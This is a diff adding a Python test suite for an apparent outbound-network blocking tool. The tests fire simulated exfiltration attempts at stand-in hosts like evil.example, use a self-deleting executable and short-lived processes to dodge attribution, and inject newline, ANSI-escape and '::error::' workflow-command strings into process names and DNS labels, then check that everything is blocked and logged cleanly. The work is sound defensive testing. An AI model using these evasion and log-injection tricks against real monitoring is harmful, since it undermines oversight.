@@ -1,0 +1,138 @@
+# SPDX-License-Identifier: Apache-2.0
+"""D. What is written about an attack cannot be used for another; nor can it be escaped."""
+
+import json
+import subprocess
+import sys
+
+from harness import Skip, blocked, case, equal, found, refused, untouched, worked
+from lab import ROOT
+from plan import EVIL4, NAMELESS4
+
+ALLOW = ["--allow", "github.com:7"]
+
+
+@case("D1 sendto, sendmsg and sendmmsg without connect leave an event each")
+def unconnected(lab):
+    r = lab.attack(ALLOW, """
+        with new_socket(EVIL4, socket.SOCK_DGRAM) as s:
+            report(sendto=attempt(s.sendto, b"out", ("203.0.113.65", 1001)),
+                   sendmsg=attempt(s.sendmsg, [b"out"], [], 0, ("203.0.113.67", 1002)),
+                   sendmmsg=attempt(sendmmsg, [("203.0.113.68", 1003)]))
+    """)
+    refused(r, "sendto", "sendmsg", "sendmmsg")
+    for addr, port in (("203.0.113.65", 1001), ("203.0.113.67", 1002), ("203.0.113.68", 1003)):
+        blocked(r, addr, port, "UDP")
+    untouched(lab, "203.0.113.65", "203.0.113.67", "203.0.113.68")
+
+
+@case("D3 a program that deletes or replaces its file, or runs from memory, is still named")
+def deleted(lab):
+    r = lab.run(ALLOW, ["sh", "-c", """
+        d=$(mktemp -d); cp /usr/bin/python3 $d/tool
+        $d/tool -c 'from attacker import *; os.unlink(os.readlink("/proc/self/exe"))
+report(gone=attempt(tcp, NAMELESS4, 7), pid=os.getpid())'
+        rmdir $d"""])
+    refused(r, "gone")
+    event = blocked(r, NAMELESS4, 7, pid=r.facts["pid"], process="tool")
+    assert event["executable"].split(" ")[0].endswith("/tool"), event
+
+
+@case("D3 a process that ends at once is still attributed")
+def short_lived(lab):
+    r = lab.attack(ALLOW, """
+        pids = []
+        for _ in range(20):
+            pid = os.fork()
+            if pid == 0:
+                attempt(tcp, NAMELESS4, 7)
+                os._exit(0)
+            pids.append(pid)
+            os.waitpid(pid, 0)
+        report(pids=pids)
+    """)
+    seen = {e["pid"] for e in r.events if e["event_type"] == "connection_blocked"}
+    equal(sorted(set(r.facts["pids"]) - seen), [], "processes without an event")
+
+
+@case("D6 process names with line ends, escapes, quotes and workflow commands stay one valid line each")
+def process_names(lab):
+    names = (b"a\nb", b"\x1b[31mred", b'","x":"y', b"::error::x", b"\xff\xfe\x80", b"\\u0000\\", b"a|b`c`<i>", b"\r\x08\x7f")
+    r = lab.attack(ALLOW, f"""
+        for port, name in enumerate({names!r}, 1000):
+            set_name(name)
+            report(**{{str(port): attempt(tcp, NAMELESS4, port)}})
+    """)
+    refused(r, *map(str, range(1000, 1000 + len(names))))
+    for port in range(1000, 1000 + len(names)):
+        blocked(r, NAMELESS4, port)
+    assert not set(r.log_text) & (set(range(0x20)) - {0x0A} | {0x7F}), "control characters in the log"
+    for line in r.log_text.decode("utf-8").splitlines():
+        json.loads(line)
+    assert "\x1b" not in r.err and "\r" not in r.err and "\x08" not in r.err, f"control characters in the summary: {r.err!r}"
+    for line in r.err.splitlines():
+        assert not line.startswith("::"), f"a workflow command in the summary: {line!r}"
+
+
+@case("D6 names in refused queries stay one valid line each")
+def query_names(lab):
+    r = lab.attack(ALLOW, """
+        for label in (b"a\\nb", b'x"y', b"\\x1b]0;t\\x07", b"::warning::w", b"\\xe2\\x80\\xae", b"a\\\\b", b"*", b" "):
+            attempt(lambda: dns_udp(RESOLVER4, dnswire.query([label, b"evil", b"example"])))
+        report(last=resolve("evil.example"))
+    """)
+    found(r, "dns_blocked", dst_hostname="evil.example")
+    assert not set(r.log_text) & (set(range(0x20)) - {0x0A} | {0x7F}), "control characters in the log"
+    for text in (r.err, r.log_text.decode("utf-8")):
+        assert "\u202e" not in text, "a direction override passed"
+
+
+@case("D7 every event of a refusal names its process, under load too")
+def attributed(lab):
+    r = lab.attack(ALLOW, """
+        for port in range(2000, 2300):
+            attempt(tcp, NAMELESS4, port)
+            dns_udp(RESOLVER4, dnswire.query(f"n{port}.evil.example"))
+    """)
+    refusals = [e for e in r.events if e["event_type"] in ("connection_blocked", "dns_blocked")]
+    assert len(refusals) > 100, len(refusals)
+    equal([e for e in refusals if not e.get("pid") or not e.get("process")][:3], [], "events without a process")
+
+
+@case("B11 an expired lease denies new flows; a live TCP flow goes on")
+def expired(lab):
+    floor = lease_option(lab)
+    r = lab.attack(["--allow", "brief.github.com:7", *floor], """
+        resolve("brief.github.com")
+        addr = "203.0.113.13"
+        with new_socket(addr, socket.SOCK_STREAM) as s:
+            s.connect((addr, 7))
+            report(first=attempt(tcp, addr, 7))
+            end = time.monotonic() + 40
+            while "value" in (outcome := attempt(tcp, addr, 7)) and time.monotonic() < end:
+                time.sleep(0.2)
+            report(expired=outcome)
+            s.sendall(b"alive")
+            report(live=attempt(s.recv, 16) and "yes")
+    """)
+    worked(r, "first")
+    refused(r, "expired")
+    equal(r.facts["live"], "yes", "a flow that was open")
+
+
+def lease_option(lab):
+    if "--lease-floor" not in lab.plain(lab.binary, "run", "--help").out:
+        raise Skip("no option shortens a lease, and its usual life is longer than a test")
+    return ["--lease-floor", "1"]
+
+
+@case("all logs of these tests agree with the schema")
+def schema(lab):
+    validator = ROOT / "tests" / "schema" / "validate.py"
+    if not validator.is_file():
+        raise Skip("tests/schema/validate.py is not there")
+    logs = [log for log in lab.logs() if log.is_file() and log.stat().st_size]
+    assert logs, "no logs"
+    done = subprocess.run([sys.executable, validator, ROOT / "docs" / "events.schema.json", *logs],
+                          capture_output=True, text=True)
+    equal(done.returncode, 0, f"validation of {len(logs)} logs: {(done.stdout + done.stderr)[-2000:]}")
